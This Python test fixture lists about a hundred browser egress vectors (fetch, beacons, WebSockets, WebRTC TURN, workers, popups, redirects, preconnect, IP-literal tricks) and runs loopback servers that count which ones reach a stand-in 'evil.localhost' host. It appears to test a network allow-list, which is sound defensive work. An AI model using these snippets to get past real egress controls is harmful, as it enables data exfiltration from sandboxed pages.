"""Ways in which a page can reach a host that is not allowed, and the two servers that show it.

Every vector has a loopback port of its own, so that a bare connection already names its vector.
`good.localhost` and `ally.localhost` stand for allowed sites, every other name for a stranger.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

GOOD, ALLY = "good.localhost", "ally.localhost"
LOOPBACK = ["127.0.0.1", "::1"]


@dataclass(frozen=True)
class Vector:
    """One way out: what the page holds, and what it answers with.

    EVIL is the stranger's address, HOP one on the allowed site that redirects there, ALLY the
    other allowed site. `code` runs with a user gesture once the page has loaded.
    """

    name: str
    body: str = ""
    code: str = ""
    host: str = "evil.localhost"
    headers: str = ""
    navigate: str = ""  # opened by us instead of a page of the allowed site
    alone: bool = False  # it leaves its page, or a page can have only one
    attached_only: bool = False  # a browser that Playwright launches does not do this


def _worker(code: str, kind: str = "Worker") -> str:
    return f"new {kind}('/script?code={quote(code)}')"


def _blob_worker(code: str) -> str:
    return f"new Worker(URL.createObjectURL(new Blob([`{code}`])))"


def _fresh_frame(code: str) -> str:
    return f"let f = document.createElement('iframe'); document.body.append(f); {code}"


def _call(kind: str, server: str) -> str:
    return (
        f"let c = new {kind}({{iceServers: [{server}]}}); c.createDataChannel('x');"
        "c.createOffer().then(offer => c.setLocalDescription(offer)); (window.kept ??= []).push(c)"
    )


def _in_popup(code: str) -> str:
    return f"open('/html?code={quote(code)}')"


def _in_frame(code: str) -> str:
    return f"<iframe src='/html?code={quote(code)}'></iframe>"


def _in_ally(code: str) -> str:
    return f"<iframe src='ALLY/html?code={quote(code)}'></iframe>"


SOCKET = "new WebSocket('EVIL/'.replace('http', 'ws'))"
TURN = "{urls: 'turn:EVILHOST?transport=tcp', username: 'u', credential: 'p'}"
PRECONNECT = (
    "let l = d.createElement('link'); l.rel = 'preconnect'; l.href = 'EVIL/'; d.head.append(l)"
)
REDIRECT = "fetch('HOP')"
SHARED = "onconnect = () => 0; "
IMG = "<img src='EVIL/'>"

VECTORS: tuple[Vector, ...] = (
    Vector("goto", navigate="EVIL/"),
    Vector("goto a redirect", navigate="HOP"),
    Vector("img", IMG),
    Vector("css link", "<link rel=stylesheet href='EVIL/'>"),
    Vector("css import", "<style>@import 'EVIL/';</style>"),
    Vector("css background", "<div style='background: url(EVIL/)'>x</div>"),
    Vector(
        "css font",
        "<style>@font-face {font-family: f; src: url(EVIL/)} p {font: 9px f}</style><p>x",
    ),
    Vector("svg image", "<svg><image href='EVIL/'/></svg>"),
    Vector("script", "<script src='EVIL/'></script>"),
    Vector("module", "<script type=module>import 'EVIL/'</script>"),
    Vector("video", "<video src='EVIL/' preload=auto></video>"),
    Vector("audio", "<audio src='EVIL/' preload=auto></audio>"),
    Vector("object", "<object data='EVIL/'></object>"),
    Vector("embed", "<embed src='EVIL/'>"),
    Vector("iframe", "<iframe src='EVIL/'></iframe>"),
    Vector("iframe srcdoc", f'<iframe srcdoc="{IMG}"></iframe>'),
    Vector("iframe data", f'<iframe src="data:text/html,{quote(IMG, safe="")}"></iframe>'),
    Vector("fetch", code="fetch('EVIL/')"),
    Vector(
        "fetch no-cors post", code="fetch('EVIL/', {method: 'POST', body: 'x', mode: 'no-cors'})"
    ),
    Vector("fetch keepalive", code="fetch('EVIL/', {keepalive: true}); location = '/'", alone=True),
    Vector("fetch later", code="fetchLater('EVIL/', {activateAfter: 0})"),
    Vector("xhr", code="const x = new XMLHttpRequest(); x.open('GET', 'EVIL/'); x.send()"),
    Vector("beacon", code="navigator.sendBeacon('EVIL/', 'x')"),
    Vector("event source", code="new EventSource('EVIL/')"),
    Vector("websocket", code=SOCKET),
    Vector("iframe websocket", _in_frame(f"<script>{SOCKET}</script>")),
    Vector("iframe blob worker", _in_frame(f"<script>{_blob_worker(SOCKET)}</script>")),
    Vector(
        "iframe webrtc",
        _in_frame(f"<script>{_call('RTCPeerConnection', TURN)}</script>"),
        host="127.0.0.1",
    ),
    Vector("websocket in a fresh frame", code=_fresh_frame("new f.contentWindow." + SOCKET[4:])),
    Vector("webtransport", code="new WebTransport('EVIL/'.replace('http', 'https'))"),
    Vector("webrtc stun", code=_call("RTCPeerConnection", "{urls: 'stun:EVILHOST'}")),
    Vector("webrtc turn", code=_call("RTCPeerConnection", TURN), host="127.0.0.1"),
    Vector(
        "webrtc in a fresh frame",
        code=_fresh_frame(_call("f.contentWindow.RTCPeerConnection", TURN)),
        host="127.0.0.1",
    ),
    Vector(
        "form post",
        "<form id=f method=post action='EVIL/'></form>",
        code="f.submit()",
        alone=True,
    ),
    Vector(
        "form redirect",
        "<form id=f method=post action='HOP'></form>",
        code="f.submit()",
        alone=True,
    ),
    Vector("meta refresh", "<meta http-equiv=refresh content='0; url=EVIL/'>", alone=True),
    Vector("location", code="location = 'EVIL/'", alone=True),
    Vector("link click", "<a id=a href='EVIL/'>x</a>", code="a.click()", alone=True),
    Vector("link ping", "<a id=a href='#x' ping='EVIL/'>x</a>", code="a.click()"),
    Vector("popup", code="open('EVIL/')"),
    Vector("popup noopener", code="open('EVIL/', '', 'noopener')"),
    Vector("popup redirect", code="open('HOP')"),
    Vector("popup then location", code="open('about:blank').location = 'EVIL/'"),
    Vector("popup websocket", code=_in_popup(f"<script>{SOCKET}</script>")),
    Vector(
        "popup webrtc",
        code=_in_popup("<script>" + _call("RTCPeerConnection", TURN) + "</script>"),
        host="127.0.0.1",
    ),
    Vector(
        "blank popup webrtc",
        code="let f = open('about:blank');" + _call("f.RTCPeerConnection", TURN),
        host="127.0.0.1",
    ),
    Vector(
        "popup blob worker",
        code=_in_popup(f"<script>{_blob_worker(SOCKET)}</script>"),
    ),
    Vector(
        "blank popup websocket",
        code="let f = open('about:blank'); new f." + SOCKET[4:],
    ),
    Vector("redirect img", "<img src='HOP'>"),
    Vector("redirect css", "<link rel=stylesheet href='HOP'>"),
    Vector("redirect script", "<script src='HOP'></script>"),
    Vector("redirect iframe", "<iframe src='HOP'></iframe>"),
    Vector("redirect fetch", code="fetch('HOP')"),
    Vector("redirect navigation", code="location = 'HOP'", alone=True),
    Vector("prefetch", "<link rel=prefetch href='EVIL/'>"),
    Vector("preload", "<link rel=preload as=image href='EVIL/'>"),
    Vector("modulepreload", "<link rel=modulepreload href='EVIL/'>"),
    Vector("preconnect", "<link rel=preconnect href='EVIL/'>", attached_only=True),
    Vector("preconnect by script", code="let d = document;" + PRECONNECT, attached_only=True),
    Vector("preconnect header", headers="Link: <EVIL/>; rel=preconnect", attached_only=True),
    Vector("preload header", headers="Link: <EVIL/>; rel=preload; as=image"),
    Vector(
        "preconnect in a frame", _in_ally("<link rel=preconnect href='EVIL/'>"), attached_only=True
    ),
    Vector(
        "preconnect in a fresh frame",
        code=_fresh_frame("let d = f.contentDocument;" + PRECONNECT),
        attached_only=True,
    ),
    Vector("icon", "<link rel=icon href='EVIL/'>", alone=True),
    Vector("manifest", "<link rel=manifest href='EVIL/'>", alone=True, attached_only=True),
    Vector(
        "csp report",
        "<img src='/blocked'>",
        headers="Content-Security-Policy: img-src 'none'; report-uri EVIL/",
    ),
    Vector("ip literal", IMG, host="127.0.0.1"),
    Vector("decimal ip", IMG, host="2130706433"),
    Vector("hex ip", IMG, host="0x7f.1"),
    Vector("ipv6", IMG, host="[::1]"),
    Vector("localhost", IMG, host="localhost"),
    Vector("other port", IMG, host=GOOD),
    Vector("other port redirect", "<img src='HOP'>", host=GOOD),
    Vector("look-alike", IMG, host=f"{GOOD}.evil.localhost"),
    Vector("cross-site iframe img", _in_ally(IMG)),
    Vector("cross-site iframe redirect", _in_ally("<img src='HOP'>")),
    Vector("cross-site iframe websocket", _in_ally(f"<script>{SOCKET}</script>")),
    Vector("cross-site iframe navigation", _in_ally("<script>location = 'HOP'</script>")),
    Vector("worker fetch", code=_worker("fetch('EVIL/')")),
    Vector("worker redirect", code=_worker("fetch('HOP')")),
    Vector("worker import", code=_worker("importScripts('EVIL/')")),
    Vector("worker websocket", code=_worker(SOCKET)),
    Vector(
        "worker webtransport", code=_worker("new WebTransport('EVIL/'.replace('http', 'https'))")
    ),
    Vector("worker in a worker", code=_worker(f"new Worker('/script?code={quote(SOCKET)}')")),
    Vector("blob worker in a worker", code=_worker(_blob_worker(SOCKET))),
    Vector("blob worker fetch", code=_blob_worker("fetch('EVIL/')")),
    Vector("blob worker websocket", code=_blob_worker(SOCKET)),
    Vector("blob worker redirect", code=_blob_worker("fetch('HOP')")),
    Vector("shared worker fetch", code=_worker(SHARED + "fetch('EVIL/')", "SharedWorker")),
    Vector("shared worker redirect", code=_worker(SHARED + "fetch('HOP')", "SharedWorker")),
    Vector("shared worker websocket", code=_worker(SHARED + SOCKET, "SharedWorker")),
    Vector(
        "service worker fetch",
        code=f"navigator.serviceWorker.register('/sw?code={quote(REDIRECT)}')",
    ),
    Vector(
        "service worker websocket",
        code=f"navigator.serviceWorker.register('/sw?w&code={quote(SOCKET)}', {{scope: '/w'}})",
    ),
)


def pages() -> list[tuple[Vector, ...]]:
    """The vectors by page: those that can share one do, which is what makes the tests quick."""
    single = [v for v in VECTORS if v.alone or v.headers or v.navigate]
    shared = [v for v in VECTORS if v not in single]
    size = 12
    return [(v,) for v in single] + [
        tuple(shared[start : start + size]) for start in range(0, len(shared), size)
    ]


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, seen: Callable[[], None]) -> None:
        self._seen = seen

    def datagram_received(self, data: bytes, addr: Any) -> None:
        """Count it."""
        self._seen()


class Sites:
    """The allowed site and one stranger a vector; `reached` are the vectors that got out."""

    def __init__(self) -> None:
        self.reached: dict[str, int] = {}
        self.port = 0
        self.sockets = 0  # web sockets that were opened to the allowed site
        self._ports: dict[str, int] = {}
        self._closers: list[Callable[[], None]] = []
        self._open_now: set[asyncio.StreamWriter] = set()

    async def __aenter__(self) -> Sites:
        """Start listening."""
        self.port = await self._listen(self._serve_good, 0)
        for vector in VECTORS:
            seen = self._seen(vector.name)
            port = await self._listen(self._serve_evil(seen), 0)
            self._ports[vector.name] = port
            for address in LOOPBACK:
                transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
                    lambda seen=seen: _Datagrams(seen), local_addr=(address, port)
                )
                self._closers.append(transport.close)
        return self

    async def __aexit__(self, *_: object) -> None:
        """Stop listening."""
        for close in self._closers:
            close()
        while self._open_now:
            for writer in self._open_now:
                writer.close()
            await asyncio.sleep(0.01)
        await asyncio.sleep(0.01)

    @property
    def start_url(self) -> str:
        """The page everything starts on."""
        return f"http://{GOOD}:{self.port}/"

    def url(self, vectors: tuple[Vector, ...]) -> str:
        """What is opened to try these vectors; its functions `go[i]()` run their code."""
        if vectors[0].navigate:
            return self._filled(vectors[0].navigate, vectors[0])
        numbers = ",".join(str(VECTORS.index(vector)) for vector in vectors)
        return f"{self.start_url}try?vectors={numbers}"

    def evil_port(self, vector: Vector) -> int:
        """The port of the vector's own stranger."""
        return self._ports[vector.name]

    def evil(self, vector: Vector) -> str:
        """The address of the vector's own stranger."""
        return f"http://{vector.host}:{self.evil_port(vector)}"

    async def _listen(self, handler: Any, port: int) -> int:
        for _ in range(20):
            first = await asyncio.start_server(handler, LOOPBACK[0], port)
            port = first.sockets[0].getsockname()[1]
            try:
                second = await asyncio.start_server(handler, LOOPBACK[1], port)
            except OSError:
                first.close()
                port = 0
                continue
            self._closers += [first.close, second.close]
            return port
        raise OSError("no port is free on both loopback addresses")

    def _seen(self, name: str) -> Callable[[], None]:
        def count() -> None:
            self.reached[name] = self.reached.get(name, 0) + 1

        return count

    def _filled(self, text: str, vector: Vector) -> str:
        evil = self.evil(vector)
        hop = f"http://{GOOD}:{self.port}/hop?to={quote(evil + '/', safe='')}"
        for word, value in (
            ("EVILHOST", evil.removeprefix("http://")),
            ("EVIL", evil),
            ("HOP", hop),
            ("ALLY", f"http://{ALLY}:{self.port}"),
        ):
            text = text.replace(word, value)
        return text

    @contextlib.asynccontextmanager
    async def _open(self, writer: asyncio.StreamWriter) -> AsyncIterator[None]:
        self._open_now.add(writer)
        try:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                yield
        finally:
            self._open_now.discard(writer)
            writer.close()

    def _serve_evil(self, seen: Callable[[], None]) -> Any:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            seen()
            async with self._open(writer):
                await reader.readuntil(b"\r\n\r\n")
                await _answer(writer, "200 OK", "text/plain", "", "")

        return serve

    async def _serve_good(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        async with self._open(writer):
            head = await reader.readuntil(b"\r\n\r\n")
            self.sockets += b"Sec-WebSocket-Key" in head
            parts = urlsplit(head.split(b" ", 2)[1].decode())
            query = {key: values[0] for key, values in parse_qs(parts.query).items()}
            if parts.path == "/hop":
                await _answer(writer, "302 Found", "text/plain", "", f"Location: {query['to']}")
            elif parts.path == "/try":
                tried = [VECTORS[int(number)] for number in query["vectors"].split(",")]
                body = "".join(self._filled(v.body, v) for v in tried)
                code = ",".join(self._filled(f"() => {{ {v.code} }}", v) for v in tried)
                body = f"<!doctype html>{body}<script>window.go = [{code}]</script>"
                headers = self._filled(tried[0].headers, tried[0])
                await _answer(writer, "200 OK", "text/html", body, headers)
            elif parts.path in ("/script", "/sw"):
                await _answer(writer, "200 OK", "text/javascript", query["code"], "")
            else:
                await _answer(writer, "200 OK", "text/html", query.get("code", "fine"), "")


async def _answer(
    writer: asyncio.StreamWriter, status: str, kind: str, body: str, headers: str
) -> None:
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    lines += ["Access-Control-Allow-Origin: *"]
    lines += [line for line in headers.split("\r\n") if line] + ["Connection: close", "", body]
    writer.write("\r\n".join(lines).encode())
    await writer.drain()
